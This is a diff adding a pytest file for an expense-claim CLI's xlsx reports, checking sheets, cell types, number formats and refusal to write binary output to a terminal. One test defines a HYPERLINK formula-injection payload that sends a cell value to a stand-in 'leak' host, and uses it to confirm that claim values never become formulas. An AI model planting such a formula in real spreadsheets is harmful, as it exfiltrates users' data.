@@ -1,0 +1,135 @@
+"""`-f xlsx` for check, deadlines, status and catering report, read back with openpyxl."""
+
+import datetime as dt
+import os
+import pty
+import subprocess
+import sys
+import zipfile
+
+import openpyxl
+import pytest
+from conftest import CLEAN, REPO
+from typer.testing import CliRunner
+
+from expensecli.cli import main
+
+main._register()
+AS_OF = ["--as-of", "2024-05-01"]
+FORMULA_ID = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+
+
+@pytest.fixture(autouse=True)
+def in_repo(monkeypatch):
+    monkeypatch.chdir(REPO)
+
+
+def workbook(tmp_path, *args: str) -> openpyxl.Workbook:
+    target = tmp_path / "out.xlsx"
+    result = CliRunner().invoke(main.app, [*args, *AS_OF, "-f", "xlsx", "-o", str(target)], standalone_mode=False)
+    if result.exception is not None:
+        raise result.exception
+    assert result.stdout == ""
+    return openpyxl.load_workbook(target)
+
+
+def header_and_rows(sheet) -> tuple[list, list[list]]:
+    rows = [list(row) for row in sheet.iter_rows()]
+    return [cell.value for cell in rows[0]], rows[1:]
+
+
+def assert_table(sheet) -> None:
+    """A frozen header row and a filter over the whole table."""
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{max(sheet.max_row, 2)}"
+
+
+def test_check_workbook_has_typed_claims_findings_and_catering(tmp_path):
+    book = workbook(tmp_path, "check", "examples")
+    assert book.sheetnames == ["Summary", "Claims", "Findings", "Catering"]
+    for sheet in book.worksheets:
+        assert_table(sheet)
+    summary = {h: c.value for h, c in zip(*[[c.value for c in book["Summary"][1]], book["Summary"][2]])}
+    assert summary == {"as_of": dt.datetime(2024, 5, 1), "files": 25, "errors": 21, "warnings": 5, "infos": 4,
+                       "waived": 1}
+    header, rows = header_and_rows(book["Claims"])
+    late = next(row for row in rows if row[1].value == "BM-2024-0117")
+    cells = dict(zip(header, late))
+    assert cells["total"].value == 4085.40 and cells["total"].number_format == "#,##0.00"
+    assert cells["total"].data_type == "n"
+    assert cells["deadline"].value == dt.datetime(2024, 3, 14) and cells["deadline"].is_date
+    assert cells["deadline"].number_format == "yyyy-mm-dd"
+    assert cells["days_late"].value == 6 and cells["errors"].value == 1
+    centres = [dict(zip(header, row))["cost_centre"] for row in rows]
+    assert {c.value for c in centres if c.value is not None} >= {"63510"}  # codes stay text, not numbers
+    assert all(c.data_type == "s" for c in centres if c.value is not None)
+    header, rows = header_and_rows(book["Findings"])
+    waived = [dict(zip(header, row)) for row in rows if row[9].value is True]
+    assert [(c["code"].value, c["line"].value) for c in waived] == [("MX003", 21)]
+    assert all(row[8].value.startswith("NTNU: ") or row[8].value.startswith("expensecli") for row in rows)
+    header, rows = header_and_rows(book["Catering"])
+    over = dict(zip(header, next(row for row in rows if row[1].value == "R-2024-0533")))
+    assert (over["per_participant"].value, over["limit"].value, over["excess"].value) == (812.5, 760.5, 416)
+    assert over["date"].value == dt.datetime(2024, 4, 18)
+
+
+def test_deadlines_status_and_catering_workbooks(tmp_path):
+    deadlines = workbook(tmp_path, "deadlines", "examples/deadlines")
+    assert deadlines.sheetnames == ["Summary", "Deadlines"]
+    header, rows = header_and_rows(deadlines["Deadlines"])
+    first = dict(zip(header, rows[0]))
+    assert (first["id"].value, first["urgency"].value, first["days_late"].value) == ("BM-2024-0031", "late", 62)
+    assert first["submitted"].value is None and first["deadline"].value == dt.datetime(2024, 2, 29)
+    status = workbook(tmp_path, "status", "examples", "--group-by", "unit")
+    assert status.sheetnames == ["Summary", "By status", "Returned", "Overdue", "By unit", "Claims", "Not loaded"]
+    assert [[c.value for c in row] for row in status["By status"].iter_rows(min_row=2)] == [
+        ["draft", 5, 13309.78], ["sent", 11, 120393.7], ["approved", 2, 1597], ["returned", 2, 18530],
+        ["paid", 2, 6470], ["all", 22, 160300.48]]
+    assert status["Overdue"]["G2"].value == dt.datetime(2024, 2, 29)
+    assert [c.value for c in status["Not loaded"]["A"]][1:] == [
+        "examples/claims/broken-syntax.yaml", "examples/claims/duplicate-key.yaml", "examples/claims/typos.yaml"]
+    catering = workbook(tmp_path, "catering", "report", "examples/catering")
+    assert catering.sheetnames == ["Summary", "Catering"]
+    assert catering["Summary"]["E2"].value == 416 and catering["Summary"]["E2"].number_format == "#,##0.00"
+    for book in (deadlines, status, catering):
+        for sheet in book.worksheets:
+            assert_table(sheet)
+
+
+def test_a_claim_value_never_becomes_a_formula(tmp_path):
+    folder = tmp_path / "claims"
+    folder.mkdir()
+    (folder / "formula.yaml").write_text(CLEAN.replace("id: R-2024-0001", f"id: '{FORMULA_ID}'")
+                                         .replace("name: Kari Nordmann", "name: '=1+1'"))
+    target = tmp_path / "out.xlsx"
+    for args in (["check"], ["status"]):
+        CliRunner().invoke(main.app, [*args, str(folder), *AS_OF, "-f", "xlsx", "-o", str(target)])
+        book = openpyxl.load_workbook(target)
+        claims = book["Claims"]
+        header = [c.value for c in claims[1]]
+        assert claims.cell(2, header.index("id") + 1).value == FORMULA_ID
+        assert claims.cell(2, header.index("id") + 1).data_type == "s"
+        assert claims.cell(2, header.index("claimant") + 1).value == "=1+1"
+        with zipfile.ZipFile(target) as archive:
+            sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)
+
+
+def test_xlsx_is_not_written_to_a_terminal():
+    """A binary format on a terminal is refused before any claim is read (exit 2, one line)."""
+    for args in (["check", "examples"], ["deadlines", "examples"], ["status", "examples"],
+                 ["catering", "report", "examples"]):
+        leader, follower = pty.openpty()
+        done = subprocess.run([sys.executable, "-m", "expensecli", *args, "-f", "xlsx"], cwd=REPO, stdout=follower,
+                              stderr=subprocess.PIPE, text=True, timeout=60)
+        os.close(follower)
+        os.close(leader)
+        assert done.returncode == 2, args
+        assert done.stderr == ("expensecli: error: xlsx is a binary file format and is not written to a terminal;"
+                               " give -o FILE.xlsx (or redirect stdout to a file)\n")
+
+
+def test_xlsx_to_a_pipe_is_the_workbook():
+    done = subprocess.run([sys.executable, "-m", "expensecli", "check", "examples/catering", *AS_OF, "-f", "xlsx"],
+                          cwd=REPO, capture_output=True, timeout=60)
+    assert done.returncode == 1 and done.stdout.startswith(b"PK\x03\x04")
